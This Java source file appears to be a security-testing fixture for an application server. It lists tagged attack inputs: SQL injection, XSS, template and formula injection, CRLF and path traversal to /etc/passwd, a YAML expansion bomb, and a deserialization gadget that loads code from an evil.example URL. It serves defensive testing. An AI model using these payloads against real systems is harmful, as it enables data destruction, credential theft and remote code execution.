package org.touchstone.app.server;

import java.util.List;
import java.util.regex.Pattern;

/// What is typed by those who mean harm. Each bears the mark `zq1`, by which it is found again.
final class Payloads {

    /// The mark standing where a browser would run it, or outside of the attribute it was put in.
    static final Pattern LIVE = Pattern.compile("<script>alert|<img src=x|<svg/onload|</textarea></title>|<b>zq1"
            + "|<\\w[^<>]*\" autofocus onfocus=|href=\"\\s*(javascript|data):|zq142");

    /// Short ones, for every field and parameter.
    static final List<String> SHORT = List.of(
            "zq1' or '1'='1",
            "zq1'; drop table account; --",
            "zq1\"); delete from trail; --",
            "zq1%' union select password from account --",
            "<script>alert('zq1')</script>",
            "\"><img src=x onerror=alert('zq1')>",
            "\" autofocus onfocus=\"alert('zq1')",
            "' autofocus onfocus='alert(1)//zq1",
            "</textarea></title><svg/onload=alert('zq1')>",
            "javascript:alert('zq1')",
            "zq1${6*7} zq1#{6*7} @raw zq1{{6*7}} $unsafe{\"zq1\" + 42}",
            "=cmd|' /C calc'!A0zq1",
            "+zq1",
            "-zq1",
            "@SUM(zq1)",
            "\t=zq1",
            "\r=zq1",
            "zq1\r\nX-Zq1: in\r\n\r\n<b>zq1",
            "../../../../etc/passwd\u0000zq1",
            "zq1\u0000",
            "zq1\u202Egnp.exe\u2066\u200B",
            "zq1\uFFFF\uFEFF\uD83D\uDE00",
            "//evil.example/zq1",
            "/\\evil.example/zq1",
            "https://evil.example/zq1",
            "/%0d%0aX-Zq1:in",
            "9223372036854775808",
            "-1",
            "NaN",
            "1e999",
            "");

    /// Long ones, and files that grow when they are read.
    static final List<String> LONG = List.of(
            "zq1".repeat(70_000),
            "\u202E\uD83D\uDE00".repeat(20_000),
            "cycle: zq1\ngoal: " + "[".repeat(20_000),
            "cycle: zq1\ngoal: x\nsteps:\n" + "  - a: {name: x, steps: [".repeat(3_000),
            bomb(),
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "cycle: &zq1 [*zq1]\ngoal: *zq1\n",
            "cycle: zq1\ncycle: zq1\n? {a: b}\n: - c\n--- \n...\n",
            "cycle: zq1\ngoal: \"<script>alert('zq1')</script>\"\nsteps:\n  - \"=zq1\": {name: \"=zq1\", seenBy: [log]}\n");

    private Payloads() {}

    private static String bomb() {
        var text = new StringBuilder("cycle: zq1\na0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
        for (int level = 1; level < 12; level++) {
            text.append("a").append(level).append(": &a").append(level).append(" [");
            text.append(("*a" + (level - 1) + ",").repeat(10)).append("]\n");
        }
        return text.append("goal: *a11\n").toString();
    }
}
